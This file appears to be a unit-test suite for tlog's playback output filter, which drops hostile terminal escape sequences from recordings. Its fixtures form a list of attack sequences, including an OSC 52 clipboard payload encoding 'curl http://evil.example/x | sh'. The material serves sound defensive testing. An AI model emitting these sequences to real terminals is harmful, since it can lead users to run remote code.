// SPDX-License-Identifier: GPL-2.0-or-later
// play::OutputFilter: what of a recording's output may reach the auditor's
// terminal, in pieces of any size.
#define BOOST_TEST_MODULE output_filter
#include <boost/test/unit_test.hpp>

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "tlog/play/output_filter.hpp"
#include "tlog/screen/virtual_screen.hpp"

using tlog::play::OutputFilter;

namespace {

std::string filtered(std::string_view data, bool raw = false)
{
	OutputFilter filter(raw);
	return filter.filter(data);
}

// @p data fed in pieces of @p size bytes.
std::string filteredBy(std::string_view data, std::size_t size)
{
	OutputFilter filter;
	std::string out;
	for (std::size_t i = 0; i < data.size(); i += size)
		filter.feed(data.substr(i, size), out);
	return out;
}

struct Case {
	const char *what;
	std::string in;
};

// Each between "a" and "b": only "ab" may come out.
const std::vector<Case> kDropped = {
    {"OSC 0 title, BEL", "\x1b]0;EVIL\x07"},
    {"OSC 1 icon, ST", "\x1b]1;EVIL\x1b\\"},
    {"OSC 2 title, ST", "\x1b]2;EVIL\x1b\\"},
    {"OSC 4 colour set", "\x1b]4;1;rgb:ff/00/00\x07"},
    {"OSC 4 colour query", "\x1b]4;1;?\x07"},
    {"OSC 10 query", "\x1b]10;?\x07"},
    {"OSC 11 set", "\x1b]11;#000000\x1b\\"},
    {"OSC 104 reset", "\x1b]104\x07"},
    {"OSC 7 cwd", "\x1b]7;file://host/etc\x07"},
    {"OSC 8 hyperlink", "\x1b]8;;http://evil.example/\x1b\\"},
    {"OSC 9 notification", "\x1b]9;you are hacked\x07"},
    {"OSC 777 notification", "\x1b]777;notify;a;b\x07"},
    {"OSC 52 clipboard", "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"},
    {"OSC 52 query", "\x1b]52;c;?\x1b\\"},
    {"OSC 1337 (iTerm2)", "\x1b]1337;File=inline=1:AAAA\x07"},
    {"DCS DECRQSS", "\x1bP$qm\x1b\\"},
    {"DCS XTGETTCAP", "\x1bP+q544e\x1b\\"},
    {"DCS sixel", "\x1bP0;1;0q#0;2;0;0;0#0~~@@vv@@~~-\x1b\\"},
    {"DCS tmux passthrough", "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\"},
    {"DCS DECUDK", "\x1bP0;1|17/6375726c\x1b\\"},
    {"APC kitty graphics", "\x1b_Ga=T,f=100;AAAA\x1b\\"},
    {"PM", "\x1b^private\x1b\\"},
    {"SOS", "\x1bXstring\x1b\\"},
    {"CSI t resize", "\x1b[8;50;100t"},
    {"CSI t report size", "\x1b[18t"},
    {"CSI t report title", "\x1b[21t"},
    {"CSI t iconify", "\x1b[2t"},
    {"CSI t title stack", "\x1b[22;0t"},
    {"XTSMTITLE", "\x1b[>0;1t"},
    {"DA1", "\x1b[c"},
    {"DA1 with 0", "\x1b[0c"},
    {"DA2", "\x1b[>c"},
    {"DA3", "\x1b[=c"},
    {"DSR status", "\x1b[5n"},
    {"DSR cursor", "\x1b[6n"},
    {"DECXCPR", "\x1b[?6n"},
    {"DSR private", "\x1b[?996n"},
    {"DECRQM private", "\x1b[?1$p"},
    {"DECRQM ANSI", "\x1b[4$p"},
    {"XTVERSION", "\x1b[>q"},
    {"XTVERSION 0", "\x1b[>0q"},
    {"DECLL", "\x1b[1q"},
    {"DECREQTPARM", "\x1b[x"},
    {"DECREQTPARM 1", "\x1b[1x"},
    {"kitty query", "\x1b[?u"},
    {"kitty push", "\x1b[>1u"},
    {"kitty pop", "\x1b[<u"},
    {"kitty set", "\x1b[=1;1u"},
    {"XTMODKEYS set", "\x1b[>4;2m"},
    {"XTMODKEYS reset", "\x1b[>4m"},
    {"XTQMODKEYS", "\x1b[?4m"},
    {"XTSMGRAPHICS", "\x1b[?1;1;0S"},
    {"XTRMTITLE", "\x1b[>0T"},
    {"XTSMPOINTER", "\x1b[>2p"},
    {"DECRQCRA", "\x1b[1;1;1;1;24;80*y"},
    {"DECRQTSR", "\x1b[1$u"},
    {"DECRQPSR", "\x1b[1$w"},
    {"DECSCPP", "\x1b[132$|"},
    {"DECSNLS", "\x1b[50*|"},
    {"DECELR locator", "\x1b[1;1'z"},
    {"DECRQLP", "\x1b['|"},
    {"XTREPORTSGR", "\x1b[1;1;1;1#|"},
    {"DECSR", "\x1b[1+p"},
    {"DECTID", "\x1b[5,q"},
    {"media copy", "\x1b[5i"},
    {"DECID", "\x1bZ"},
    {"keypad application", "\x1b="},
    {"keypad numeric", "\x1b>"},
    {"S8C1T", "\x1b G"},
    {"leave UTF-8", "\x1b%@"},
    {"stray ST", "\x1b\\"},
    {"X10 mouse", "\x1b[?9h"},
    {"mouse 1000", "\x1b[?1000h"},
    {"mouse 1001", "\x1b[?1001h"},
    {"mouse 1002", "\x1b[?1002h"},
    {"mouse 1003", "\x1b[?1003h"},
    {"mouse UTF-8", "\x1b[?1005h"},
    {"mouse SGR", "\x1b[?1006h"},
    {"mouse urxvt", "\x1b[?1015h"},
    {"mouse pixels", "\x1b[?1016h"},
    {"focus", "\x1b[?1004h"},
    {"bracketed paste", "\x1b[?2004h"},
    {"DECCKM", "\x1b[?1h"},
    {"DECNKM", "\x1b[?66h"},
    {"mouse off too", "\x1b[?1000l"},
    {"several input modes", "\x1b[?1000;1006;2004h"},
    {"Tek window", "\x1b[?38h"},
    {"logging", "\x1b[?46h"},
    {"XTSAVE of mouse", "\x1b[?1000s"},
    {"XTRESTORE of mouse", "\x1b[?1000r"},
    {"KAM", "\x1b[2h"},
    {"SRM", "\x1b[12l"},
    {"in-band resize reports", "\x1b[?2048h"},
    {"modes behind an intermediate", "\x1b[?1000;2%h"},
    {"an unknown final", "\x1b[1w"},
    {"an unknown intermediate", "\x1b[1&x"},
};

// Passed unchanged.
const std::vector<Case> kKept = {
    {"text", "hello, world\r\n"},
    {"UTF-8", "h\xc3\xa9llo \xe2\x82\xac \xf0\x9f\x98\x80 \xc2\xa0"},
    {"invalid UTF-8", "\xff\xfe\xc3(\xe2\x82 \302a \x9b\x9d"},
    {"C0 controls", "\a\b\t\n\v\f\r\x0e\x0f"},
    {"SGR", "\x1b[1;31;4mred\x1b[0m\x1b[m"},
    {"SGR true colour", "\x1b[38;2;1;2;3;48;5;200m"},
    {"SGR sub-parameters", "\x1b[38:2::1:2:3m\x1b[4:3m"},
    {"cursor motion", "\x1b[10;20H\x1b[A\x1b[2B\x1b[C\x1b[D\x1b[5G\x1b[3d\x1b[H\x1b[f"},
    {"erase", "\x1b[2J\x1b[K\x1b[1K\x1b[?2J\x1b[X\x1b[P\x1b[@"},
    {"lines", "\x1b[L\x1b[M\x1b[S\x1b[2T"},
    {"scroll region", "\x1b[5;20r\x1b[r"},
    {"save and restore cursor", "\0337\0338\x1b[s\x1b[u"},
    {"charsets", "\x1b(0lqk\x1b(B\x1b)0\x1b*B\x1b+B\x0e\x0f\x1bn\x1bo"},
    {"alternate screen", "\x1b[?1049h\x1b[?1049l\x1b[?1047h\x1b[?47l"},
    {"cursor visibility", "\x1b[?25l\x1b[?25h"},
    {"autowrap, origin, insert, newline", "\x1b[?7l\x1b[?6h\x1b[4h\x1b[20h"},
    {"reverse video", "\x1b[?5h\x1b[?5l"},
    {"synchronized output", "\x1b[?2026h\x1b[?2026l"},
    {"cursor style", "\x1b[2 q\x1b[0 q"},
    {"REP, tabs", "x\x1b[5b\x1b[3g\x1bH\x1b[2I\x1b[Z"},
    {"index, reverse index, next line", "\033D\x1bM\033E"},
    {"DECALN, line sizes", "\x1b#8\x1b#3\x1b#6"},
    {"resets", "\033c\x1b[!p"},
    {"DECCARA, DECFRA", "\x1b[1;1;2;2;1$t\x1b[88;1;1;2;2$x"},
    {"DECIC, DECDC", "\x1b[2'}\x1b[2'~"},
};

// What a filtered output must never hold: an OSC, DCS, APC, PM or SOS,
// an ESC that makes the terminal answer or changes its keys, a window
// operation or report request, an input mode, an encoded C1 control.
std::string unsafe(std::string_view out)
{
	for (std::size_t i = 0; i < out.size(); i++) {
		auto c = static_cast<unsigned char>(out[i]);
		if (c == 0xc2 && i + 1 < out.size() &&
		    static_cast<unsigned char>(out[i + 1]) >= 0x80 &&
		    static_cast<unsigned char>(out[i + 1]) <= 0x9f)
			return "an encoded C1 control";
		if (c != 0x1b)
			continue;
		if (i + 1 >= out.size())
			return "an ESC at the end";
		char next = out[i + 1];
		if (std::string_view("]P_^XZ=>k\\ %").find(next) != std::string_view::npos)
			return std::string("ESC ") + next;
		if (next != '[')
			continue;
		std::size_t end = i + 2;
		while (end < out.size() && static_cast<unsigned char>(out[end]) < 0x40)
			end++;
		if (end >= out.size())
			return "a CSI cut short";
		std::string_view seq = out.substr(i, end + 1 - i);
		char f = seq.back();
		bool leader = seq.size() > 3 && seq[2] >= 0x3c && seq[2] <= 0x3f;
		bool intermediate = static_cast<unsigned char>(seq[seq.size() - 2]) < 0x30;
		if (!intermediate && std::string_view("tcnqxiy").find(f) != std::string_view::npos)
			return "CSI final " + std::string(1, f);
		if (!intermediate && leader && (f == 'u' || f == 'm'))
			return "CSI with a leader, final " + std::string(1, f);
		if (intermediate && seq[seq.size() - 2] == '$' && f == 'p')
			return "DECRQM";
		if (intermediate && (f == 'h' || f == 'l' || (leader && f == 'u')))
			return "a mode or keyboard sequence with an intermediate";
		if (leader && seq[2] == '?' && (f == 'h' || f == 'l')) {
			std::string params(seq.substr(3, seq.size() - 4));
			for (const char *mode :
			     {"1", "9", "1000", "1002", "1003", "1004", "1006", "2004"}) {
				std::string p = ";" + params + ";";
				if (p.find(";" + std::string(mode) + ";") != std::string::npos)
					return "input mode " + std::string(mode);
			}
		}
	}
	return {};
}

} // namespace

BOOST_AUTO_TEST_CASE(what_acts_outside_the_screen_is_dropped)
{
	for (const auto &c : kDropped) {
		std::string in = "a" + c.in + "b";
		BOOST_TEST(filtered(in) == "ab", c.what);
		// Raw output passes it.
		BOOST_TEST(filtered(in, true) == in, c.what);
	}
}

BOOST_AUTO_TEST_CASE(what_draws_is_kept)
{
	for (const auto &c : kKept) {
		BOOST_TEST(filtered(c.in) == c.in, c.what);
		BOOST_TEST(unsafe(filtered(c.in)).empty(), c.what);
	}
}

BOOST_AUTO_TEST_CASE(mode_sequences_keep_their_screen_modes)
{
	BOOST_TEST(filtered("\x1b[?1049;1000;25h") == "\x1b[?1049;25h");
	BOOST_TEST(filtered("\x1b[?1000;7l") == "\x1b[?7l");
	BOOST_TEST(filtered("\x1b[?2004;1049;1006l") == "\x1b[?1049l");
	BOOST_TEST(filtered("\x1b[4;2h") == "\x1b[4h");
	BOOST_TEST(filtered("\x1b[?1049;25s") == "\x1b[?1049;25s"); // XTSAVE
}

BOOST_AUTO_TEST_CASE(window_name_drops_only_its_sequence)
{
	// screen's and tmux's ESC k: its text shows, as on the player's
	// screen (libvterm has no such string).
	BOOST_TEST(filtered("a\x1bkname\x1b\\b") == "anameb");
}

BOOST_AUTO_TEST_CASE(encoded_c1_controls_become_replacements)
{
	const std::string fffd = "\xef\xbf\xbd";
	BOOST_TEST(filtered("\xc2\2336n") == fffd + "6n");
	BOOST_TEST(filtered("\xc2\23552;c;eA==\xc2\x9c") == fffd + "52;c;eA==" + fffd);
	BOOST_TEST(filtered("\xc2\x85") == fffd);
	// Cut between its bytes.
	BOOST_TEST(filteredBy("x\xc2\233c", 2) == "x" + fffd + "c");
	// A lone 0xc2, a dropped sequence, then a byte that would complete
	// an encoded C1 control with it: not that control.
	BOOST_TEST(filtered("\xc2\x1b]0;t\x07\x9b") == "\xc2" + fffd);
	BOOST_TEST(filtered("\xc2\x1b[>q\x9d") == "\xc2" + fffd);
	// An ESC before a non-ASCII byte: the byte, without the ESC.
	BOOST_TEST(filtered("\x1b\xc3\x9b") == "\xc3\x9b");
	BOOST_TEST(filtered("\x1b\xe2\x82\xff") == "\xe2\x82\xff");
}

BOOST_AUTO_TEST_CASE(cancelled_and_interrupted_sequences)
{
	// CAN and SUB cancel a sequence (and pass, as the terminal's own).
	BOOST_TEST(filtered("\x1b[6\x18n") == "\x18n");
	BOOST_TEST(filtered("\x1b]52;c;eA==\032after") == "\032after");
	BOOST_TEST(filtered("\x1bP$q\x18m") == "\x18m");
	// ESC starts again.
	BOOST_TEST(filtered("\x1b[6\x1b[1m") == "\x1b[1m");
	BOOST_TEST(filtered("\x1b]0;t\x1b[1m") == "\x1b[1m");
	// Controls inside a sequence are carried out, in order.
	BOOST_TEST(filtered("\x1b[1\r\n;2H") == "\r\n\x1b[1;2H");
	BOOST_TEST(filtered("\x1b[1\x7fm") == "\x1b[1m");
	// Broken sequences go up to their final byte.
	BOOST_TEST(filtered("\x1b[1;?2hx") == "x");
	BOOST_TEST(filtered("\x1b[1 2hx") == "x");
	BOOST_TEST(filtered("\x1b[1\xc3\xa9mx") == "x");
	// After intermediates a CSI or string still starts (as libvterm has it).
	BOOST_TEST(filtered("\x1b(]0;t\x07x") == "x");
	BOOST_TEST(filtered("\x1b#[6nx") == "x");
}

BOOST_AUTO_TEST_CASE(sequences_split_anywhere)
{
	std::string attack = "before \x1b]52;c;Y3VybA==\x07\x1b]0;T\x1b\\\x1b[?1000;1006;25h"
			     "\x1b[>q\x1bP$qm\x1b\\\x1b[c\x1b[6n\x1b[1;32mgreen\x1b[0m \xe2\x82\xac"
			     "\xc2\2335i\x1b(0q\x1b(B\0337\x1b[5;10r\0338end";
	std::string whole = filtered(attack);
	BOOST_TEST(whole == "before \x1b[?25h\x1b[1;32mgreen\x1b[0m \xe2\x82\xac\xef\xbf\xbd"
			    "5i\x1b(0q\x1b(B\0337\x1b[5;10r\0338end");
	for (std::size_t i = 0; i <= attack.size(); i++) {
		OutputFilter filter;
		std::string out;
		filter.feed(attack.substr(0, i), out);
		filter.feed(attack.substr(i), out);
		BOOST_TEST(out == whole, "split at " << i);
	}
	BOOST_TEST(filteredBy(attack, 1) == whole);
	BOOST_TEST(filteredBy(attack, 3) == whole);
}

BOOST_AUTO_TEST_CASE(an_endless_string_holds_no_memory)
{
	OutputFilter filter;
	std::string out;
	filter.feed("text\x1b]52;c;", out);
	std::string payload(1 << 20, 'A');
	for (int i = 0; i < 32; i++) // 32 MiB of clipboard
		filter.feed(payload, out);
	BOOST_TEST(out == "text");
	filter.feed("\x07 after", out);
	BOOST_TEST(out == "text after");
	// An overlong CSI is dropped whole, the text after it passes.
	std::string csi = "\x1b[" + std::string(OutputFilter::kMaxSequence * 8, '1') + "mok";
	BOOST_TEST(filtered(csi) == "ok");
	std::string escape = "\x1b" + std::string(OutputFilter::kMaxSequence * 8, '(') + "0ok";
	BOOST_TEST(filtered(escape) == "ok");
}

BOOST_AUTO_TEST_CASE(restore_puts_back_what_the_output_changed)
{
	OutputFilter untouched;
	untouched.filter("plain text\r\n");
	BOOST_TEST(untouched.restore() == "");

	OutputFilter filter;
	filter.filter("\x1b[?1049h\x1b[?25l\x1b[1m\x1b[5;10r\x1b(0\x1b[?7l\x1b[4h\x1b[2 q"
		      "\x1b[?1000h\x1b[?2004h\x1b=");
	std::string restore = filter.restore();
	for (std::string_view part :
	     {std::string_view("\x1b[0m"), tlog::screen::VirtualScreen::plainModes(),
	      std::string_view("\0337\x1b[r\0338"), std::string_view("\x1b[?25h"),
	      std::string_view("\x1b[0 q")})
		BOOST_TEST(restore.find(part) != std::string::npos, part);
	// The input modes never reached the terminal: nothing to undo.
	BOOST_TEST(restore.find("1000") == std::string::npos);
	BOOST_TEST(restore.find("2004") == std::string::npos);
	BOOST_TEST(restore.find("\x1b>") == std::string::npos);
	// The alternate screen stays, with the recording's last picture.
	BOOST_TEST(restore.find("1049") == std::string::npos);
}

BOOST_AUTO_TEST_CASE(raw_output_restores_the_input_modes_too)
{
	OutputFilter filter(true);
	std::string in = "\x1b[?1000;1006h\x1b[?2004h\x1b[?1h\x1b=\x1b[>4;2m\x1b[>1u\x1b[>1u"
			 "\x1b[?8l\x1b]0;title\x07";
	BOOST_TEST(filter.filter(in) == in);
	std::string restore = filter.restore();
	for (const char *part : {"\x1b[?1l", "\x1b[?8h", "\x1b[?1000l", "\x1b[?1006l",
				 "\x1b[?2004l", "\x1b>", "\x1b[>4m", "\x1b[<2u"})
		BOOST_TEST(restore.find(part) != std::string::npos, part);
	// Turned off by the recording itself: left alone.
	OutputFilter off(true);
	off.filter("\x1b[?1000h\x1b[?1000l\x1b[>1u\x1b[<u");
	BOOST_TEST(off.restore() == "");
}

BOOST_AUTO_TEST_CASE(the_players_own_paints_are_followed)
{
	// A paint that hides the cursor (a jump to where the recording hid
	// it) is undone at the end; a sequence held from the recording is not
	// disturbed by it.
	OutputFilter filter;
	std::string out;
	filter.feed("\x1b[3", out);
	filter.note("\x1b[?1049h\x1b[H\x1b[2J\x1b[?25l");
	filter.feed("1mred", out);
	BOOST_TEST(out == "\x1b[31mred");
	BOOST_TEST(filter.restore() == "\x1b[0m\x1b[?25h");
	// After a jump the held part is forgotten.
	filter.feed("\x1b]52;c;", out);
	filter.cut();
	filter.feed("text", out);
	BOOST_TEST(out == "\x1b[31mredtext");
}

BOOST_AUTO_TEST_CASE(random_output_stays_safe)
{
	// Pieces of sequences thrown together: whatever comes out is safe,
	// the same fed whole or byte by byte, and filtering it again keeps
	// all of it.
	const std::vector<std::string> atoms = {
	    "\x1b", "[",    "]",    "P",	"_",	  "^",	   "X",	   "?",	   ">",
	    "<",    "=",    "$",    " ",	"'",	  "*",	   "1",	   "0",	   "52",
	    "1000", "2004", ";",    ":",	"t",	  "c",	   "n",	   "q",	   "x",
	    "h",    "l",    "m",    "u",	"p",	  "\x07",  "\\",   "\x18", "\x1a",
	    "\xc2", "\x9b", "\x9d", "\xc3\xa9", "a",	  "\r\n",  "(",	   "0",	   "k",
	    "Z",    "\x7f", "#",    "y",	"\x1b[?", "\x1b]", "\x1bP"};
	std::uint32_t seed = 12345;
	auto next = [&seed]() {
		seed = seed * 1664525u + 1013904223u;
		return seed >> 8;
	};
	for (int round = 0; round < 3000; round++) {
		std::string in;
		int n = static_cast<int>(next() % 40);
		for (int i = 0; i < n; i++)
			in += atoms[next() % atoms.size()];
		std::string out = filtered(in);
		BOOST_TEST(unsafe(out).empty(), unsafe(out) << " in " << out);
		BOOST_TEST(filteredBy(in, 1) == out);
		// Again: all of it passes (a lone 0xc2 at the end waits: "." ends it).
		BOOST_TEST(filtered(out + ".") == out + ".");
	}
}
